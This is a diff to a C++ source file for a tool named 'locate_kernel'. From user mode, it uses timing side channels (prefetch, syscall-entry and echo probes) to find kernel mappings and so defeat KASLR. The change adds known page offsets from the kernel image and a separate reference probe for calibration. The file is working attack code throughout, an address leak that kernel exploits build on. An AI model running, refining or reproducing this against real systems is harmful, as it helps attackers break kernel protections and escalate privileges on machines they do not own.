@@ -1,13 +1,16 @@
 // SPDX-License-Identifier: MIT
 // Finds out from user mode where in the last 2 GiB of the address space something of the kernel is:
-//     locate_kernel prefetch|entry|echo
+//     locate_kernel prefetch|entry|echo OFFSET...
+// An OFFSET, in hexadecimal, is the place within a 2 MiB step of a page that the kernel is known to
+// have: anyone who has the image knows it, and only the step remains to be found.
 // Standard output, a line each:
 //     control MAPPED UNMAPPED   what the probe measured on pages of its own
-//     found ADDRESS MEASURE     each 2 MiB step that looks like the mapped one, in hexadecimal
+//     found ADDRESS MEASURE     each page that looks like the mapped one, in hexadecimal
 // Without `found` lines nothing was seen; with equal numbers in `control` nothing could be.
 #include <sys/mman.h>
 
 #include <cstdio>
+#include <cstdlib>
 #include <cstring>
 #include <memory>
 
@@ -45,25 +48,34 @@ std::uintptr_t own_page(bool present) {
 }  // namespace
 
 int main(int count, char** arguments) {
-    const std::unique_ptr<KernelProbe> probe = count == 2 ? make_probe(arguments[1]) : nullptr;
+    constexpr int first_offset = 2;
+    const std::unique_ptr<KernelProbe> probe =
+        count > first_offset ? make_probe(arguments[1]) : nullptr;
     if (probe == nullptr) {
-        std::fputs("usage: locate_kernel prefetch|entry|echo\n", stderr);
+        std::fputs("usage: locate_kernel prefetch|entry|echo OFFSET...\n", stderr);
         return 2;
     }
     const std::uintptr_t present = own_page(true);
     const std::uintptr_t absent = own_page(false);
-    static_cast<void>(probe->measure(present));  // the first is disturbed by its own code's misses
-    const std::uint64_t mapped = probe->measure(present);
-    const std::uint64_t unmapped = probe->measure(absent);
+    // Its own pages do not outlive a system call in the TLB where that flushes, as the kernel's
+    // entry code does: what the clock can see is measured without one.
+    const std::unique_ptr<KernelProbe> reference =
+        make_probe(std::strcmp(arguments[1], "entry") == 0 ? "prefetch" : arguments[1]);
+    static_cast<void>(reference->measure(present));  // the first is disturbed by its own misses
+    const std::uint64_t mapped = reference->measure(present);
+    const std::uint64_t unmapped = reference->measure(absent);
     std::printf("control %lu %lu\n", mapped, unmapped);
     if (mapped >= unmapped) {
         return 0;  // the probe cannot tell them apart
     }
     for (std::uintptr_t i = 0; i < candidates; ++i) {
-        const std::uintptr_t address = first_candidate + i * step;
-        const std::uint64_t measured = probe->measure(address);
-        if (2 * measured <= mapped + unmapped) {
-            std::printf("found %lx %lu\n", address, measured);
+        for (int offset = first_offset; offset < count; ++offset) {
+            const std::uintptr_t address =
+                first_candidate + i * step + std::strtoul(arguments[offset], nullptr, 16);
+            const std::uint64_t measured = probe->measure(address);
+            if (2 * measured <= mapped + unmapped) {
+                std::printf("found %lx %lu\n", address, measured);
+            }
         }
     }
     return 0;
